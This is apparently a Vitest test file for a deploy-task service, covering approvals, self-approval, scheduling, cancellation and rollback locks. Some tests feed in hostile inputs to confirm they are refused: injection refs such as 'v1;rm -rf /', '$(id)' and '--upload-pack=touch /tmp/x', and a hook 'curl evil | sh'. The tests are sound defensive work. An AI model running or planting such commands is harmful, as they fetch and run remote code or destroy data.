import { afterAll, beforeEach, describe, expect, it } from 'vitest';
import { AuditEvent, DeployTask, Project } from '../../src/db/entities/index.js';
import { SelfApprovalNeedsConfirmation } from '../../src/core/task-service.js';
import type { Actor } from '../../src/core/actor.js';
import { admin, alice, bob, createTestDatabase, STORE_KINDS, type TestDatabase } from '../support/database.js';
import { usePostgres } from '../support/use-postgres.js';

const postgres = usePostgres();

describe.each(STORE_KINDS)('TaskService on %s', (kind) => {
  let db: TestDatabase;
  const carol: Actor = { id: 'UCAROL01', isAdmin: false };

  beforeEach(async () => {
    await db?.close();
    db = await createTestDatabase({ kind, postgres });
    await db.services().servers.add(admin, { name: 'web-1', hostname: 'web-1.example.com', username: 'deploy', authKind: 'agent' });
    await db.services().projects.add(admin, { name: 'site', repoUrl: 'https://example.com/site.git', deployPath: '/srv/site', servers: ['web-1'], hooks: { after_deploy: 'systemctl reload site' } });
    await db.services().projects.add(admin, {
      name: 'api',
      repoUrl: 'https://example.com/api.git',
      deployPath: '/srv/api',
      servers: ['web-1'],
      environment: 'prod',
      approvers: [alice.id, admin.id],
    });
  });
  afterAll(() => db?.close());

  it('makes a test-project deploy ready at once, copying the hooks', async () => {
    const task = await db.services().tasks.requestDeploy(bob, { project: 'site', ref: 'v1.2.0' });
    expect(task).toMatchObject({ project: 'site', ref: 'v1.2.0', status: 'approved', requestedBy: bob.id });
    expect(task.hooks.after_deploy).toBe('systemctl reload site');
  });

  it('refuses dangerous refs before anything is stored', async () => {
    for (const ref of ['--upload-pack=touch /tmp/x', 'v1;rm -rf /', 'a b', 'x..y', '$(id)', '']) {
      await expect(db.services().tasks.requestDeploy(bob, { project: 'site', ref })).rejects.toThrow(/Cannot request the deploy/);
    }
    expect(await db.em().count(DeployTask, {})).toBe(0);
  });

  it('only lets admins change hook scripts for one deploy', async () => {
    await expect(db.services().tasks.requestDeploy(bob, { project: 'site', ref: 'main', hooks: { before_deploy: 'curl evil | sh' } })).rejects.toThrow(/Only admins can change hook scripts/);
    const task = await db.services().tasks.requestDeploy(admin, { project: 'site', ref: 'main', hooks: { before_deploy: 'echo hi' } });
    expect(task.hooks.before_deploy).toBe('echo hi');
  });

  it('runs the prod approval rules', async () => {
    const task = await db.services().tasks.requestDeploy(bob, { project: 'api', ref: 'v2' });
    expect(task.status).toBe('awaiting_approval');

    await expect(db.services().tasks.approve(carol, task.id)).rejects.toThrow(/Only the approvers of api/);
    const approved = await db.services().tasks.approve(alice, task.id);
    expect(approved).toMatchObject({ status: 'approved', approvedBy: alice.id });
    await expect(db.services().tasks.approve(admin, task.id)).rejects.toThrow(/nothing to approve/);
  });

  it('refuses self-approval, except an admin who confirms it', async () => {
    const own = await db.services().tasks.requestDeploy(alice, { project: 'api', ref: 'v2' });
    await expect(db.services().tasks.approve(alice, own.id)).rejects.toThrow(/cannot approve it yourself/);

    const adminOwn = await db.services().tasks.requestDeploy(admin, { project: 'api', ref: 'v3' });
    await expect(db.services().tasks.approve(admin, adminOwn.id)).rejects.toBeInstanceOf(SelfApprovalNeedsConfirmation);
    expect((await db.services().tasks.show(adminOwn.id)).status).toBe('awaiting_approval');
    const confirmed = await db.services().tasks.approve(admin, adminOwn.id, { confirmSelf: true });
    expect(confirmed.status).toBe('approved');
    const audit = await db.em().findOneOrFail(AuditEvent, { action: 'task.approve', target: `task:${adminOwn.id}` });
    expect(audit.details).toEqual({ selfApproved: true });
  });

  it('rejects with a reason, by approvers only', async () => {
    const task = await db.services().tasks.requestDeploy(bob, { project: 'api', ref: 'v2' });
    await expect(db.services().tasks.reject(bob, task.id, 'nope')).rejects.toThrow(/Only the approvers/);
    await expect(db.services().tasks.reject(alice, task.id, '   ')).rejects.toThrow(/Say why/);
    const rejected = await db.services().tasks.reject(alice, task.id, 'release freeze until Monday');
    expect(rejected).toMatchObject({ status: 'rejected', rejectedBy: alice.id, rejectReason: 'release freeze until Monday' });
    await expect(db.services().tasks.approve(admin, task.id)).rejects.toThrow(/rejected/);
  });

  it('keeps a scheduled prod deploy scheduled after approval', async () => {
    const now = new Date('2026-11-23T10:00:00Z');
    const at = new Date('2026-11-23T18:00:00Z');
    const task = await db.services().tasks.requestDeploy(bob, { project: 'api', ref: 'v2', scheduledAt: at }, now);
    expect(task.status).toBe('awaiting_approval');
    const approved = await db.services().tasks.approve(alice, task.id, {}, now);
    expect(approved.status).toBe('scheduled');
    expect(approved.scheduledAt).toEqual(at);
    await expect(db.services().tasks.requestDeploy(bob, { project: 'site', ref: 'v2', scheduledAt: new Date(now.getTime() - 1000) }, now)).rejects.toThrow(/in the past/);
  });

  it('cancels waiting tasks for the requester, approvers and admins only', async () => {
    const task = await db.services().tasks.requestDeploy(bob, { project: 'api', ref: 'v2' });
    await expect(db.services().tasks.cancel(carol, task.id)).rejects.toThrow(/Only the requester/);
    const { task: cancelled, wasRunning } = await db.services().tasks.cancel(bob, task.id);
    expect(cancelled.status).toBe('cancelled');
    expect(wasRunning).toBe(false);
    await expect(db.services().tasks.cancel(bob, task.id)).rejects.toThrow(/nothing to cancel/);
  });

  it('lists tasks newest first, per project', async () => {
    await db.services().tasks.requestDeploy(bob, { project: 'site', ref: 'v1' });
    await db.services().tasks.requestDeploy(bob, { project: 'api', ref: 'v1' });
    await db.services().tasks.requestDeploy(bob, { project: 'site', ref: 'v2' });
    expect((await db.services().tasks.list()).map((t) => `${t.project}@${t.ref}`)).toEqual(['site@v2', 'api@v1', 'site@v1']);
    expect((await db.services().tasks.list({ project: 'site' })).map((t) => t.ref)).toEqual(['v2', 'v1']);
    await expect(db.services().tasks.show(999)).rejects.toThrow(/There is no deploy #999/);
    await expect(db.services().tasks.list({ project: 'nope' })).rejects.toThrow(/No project named nope/);
  });

  it('rolls back only for admins and approvers, and refuses while locked', async () => {
    await expect(db.services().tasks.requestRollback(carol, 'api', undefined)).rejects.toThrow(/Only admins and the approvers/);
    // Nothing ever went live: the target cannot be pinned, and nothing is recorded.
    await expect(db.services().tasks.requestRollback(alice, 'api', undefined)).rejects.toThrow(/No release of api is recorded as live yet/);
    const em = db.em();
    const project = await em.findOneOrFail(Project, { name: 'api' });
    project.lockedBy = 'UADMIN01';
    project.lockReason = 'db migration';
    await em.flush();
    await expect(db.services().tasks.requestDeploy(bob, { project: 'api', ref: 'v9' })).rejects.toThrow(/locked by <@UADMIN01>: db migration/);
    await expect(db.services().tasks.requestRollback(alice, 'api', undefined)).rejects.toThrow(/locked by <@UADMIN01>: db migration/);
  });
});
